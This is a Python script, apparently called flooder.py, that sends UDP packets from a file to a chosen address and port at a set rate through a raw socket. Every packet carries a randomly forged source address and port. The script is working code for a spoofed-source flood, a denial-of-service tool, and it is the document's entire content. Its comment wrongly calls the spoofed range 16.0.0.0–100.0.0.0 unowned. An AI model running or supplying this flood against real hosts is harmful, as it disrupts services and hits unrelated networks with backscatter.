"""Sends packets from a file to one place, each under another forged address.

    python3 flooder.py FILE ADDRESS PORT RATE SECONDS

The file has one packet per line, in hexadecimal. Says `ready`, begins with a line of input, and says how
many were sent and in how many seconds.
"""

import pathlib
import random
import socket
import struct
import sys
import time

BATCH = 0.002
# Addresses that are nobody's here, from 16.0.0.0 on; some hundreds of millions.
SOURCE_FIRST, SOURCE_LAST = 16 << 24, 100 << 24
PORT_FIRST = 1024


def main() -> None:
    payloads = [bytes.fromhex(line) for line in pathlib.Path(sys.argv[1]).read_text().split("\n")]
    place, rate, seconds = (sys.argv[2], int(sys.argv[3])), int(sys.argv[4]), float(sys.argv[5])
    chance = random.Random(7)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    out.connect((place[0], 0))
    pack = struct.Struct("!BBHHHBBHI4sHHHH").pack
    target, port = socket.inet_aton(place[0]), place[1]
    print("ready", flush=True)
    sys.stdin.readline()
    begin, count = time.monotonic(), 0
    while (elapsed := time.monotonic() - begin) < seconds:
        due = int(elapsed * rate)
        while count < due:
            payload = payloads[count % len(payloads)]
            word = chance.getrandbits(62)
            # The kernel fills in lengths and checksums of IP, and UDP needs none.
            head = pack(
                0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0,
                SOURCE_FIRST + word % (SOURCE_LAST - SOURCE_FIRST), target,
                PORT_FIRST + (word >> 32) % (65536 - PORT_FIRST), port, 8 + len(payload), 0)
            out.sendmsg((head, payload))
            count += 1
        time.sleep(BATCH)
    print(count, time.monotonic() - begin, flush=True)


if __name__ == "__main__":
    main()
